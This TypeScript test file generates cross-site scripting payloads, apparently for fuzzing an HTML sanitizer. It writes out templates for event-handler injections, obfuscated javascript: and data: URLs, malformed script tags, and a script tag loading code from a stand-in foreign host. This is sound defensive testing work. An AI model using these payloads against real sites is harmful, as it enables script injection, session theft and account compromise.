/**
 * XSS payloads: handwritten (by class of attack), generated from a grammar, and the big list of naughty strings. The
 * same seed gives the same texts. A successful attack calls alert(n), where n is its index in the list, or sends a
 * request to FOREIGN.
 */
import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' }
import { classes, FOREIGN } from './markup-classes.ts'
import {
  addressed,
  addresses,
  elements,
  frames,
  handlers,
  hidings,
  programs,
  quotings,
  schemes,
  separators,
} from './markup-grammar.ts'

/** The handwritten attacks and the naughty strings. */
const known: readonly string[] = [...classes, ...(naughty as readonly string[])]

/** `count` texts: the known ones, then generated ones. */
export function markup(count: number, seed = 1): readonly string[] {
  const draw = drawing(seed)
  const texts = known.slice(0, count).map((text, at) => text.replaceAll('alert(1)', `alert(${at})`))
  while (texts.length < count) texts.push(generated(draw, texts.length))
  return texts
}

type Draw = <Item>(from: readonly Item[]) => Item

/** A linear congruential generator: its high bits choose. */
function drawing(seed: number): Draw {
  let state = seed >>> 0
  return (from) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return from[Math.floor((state / 2 ** 32) * from.length)] as (typeof from)[number]
  }
}

function generated(draw: Draw, place: number): string {
  const program = draw(programs)(place)
  const core = draw([handled, handled, addressing, scripted])(draw, program)
  return draw(frames)(draw(frames)(core))
}

/** An element with a handler: <img/OnError="alert(7)" src=x>. */
function handled(draw: Draw, program: string): string {
  const [name, more] = draw(elements)
  const space = draw(separators)
  const handler = draw(cases)(draw(handlers))
  return `<${draw(cases)(name)}${space}${more}${space}${handler}${draw(['=', ' = ', '=\n'])}${draw(quotings)(draw(hidings)(program))}${draw(ends)}`
}

/** An element with a script URL: <a href="java&#9;script:alert(7)">. */
function addressing(draw: Draw, program: string): string {
  const [element, attribute] = draw(addressed)
  const address = draw([
    () => draw(schemes) + program,
    () => draw(addresses),
    () => `data:text/html,<script>${program}</script>`,
  ])
  return `<${draw(cases)(element)}${draw(separators)}${attribute}=${draw(quotings)(draw(hidings)(address()))}${draw(ends)}x`
}

function scripted(draw: Draw, program: string): string {
  const name = draw(cases)('script')
  return draw([
    `<${name}>${program}</${name}>`,
    `<${name}${draw(separators)}src=${draw(quotings)(`${FOREIGN}/x.js`)}></${name}>`,
    `<${name} x>${program}</${name} >`,
    `<${name}>${program}`,
    `<<${name}>${program}//<</${name}>`,
    `<svg><${name}>${program.replaceAll('(', '&lpar;')}</${name}></svg>`,
    `<${name} type=module>${program}</${name}>`,
  ])
}

const ends = ['>', '>', '>', '/>', '', ' <', '>x</a>', '\n>'] as const
const mixed = (text: string) => [...text].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('')
const cases = [(t: string) => t, (t: string) => t, (t: string) => t.toUpperCase(), mixed] as const
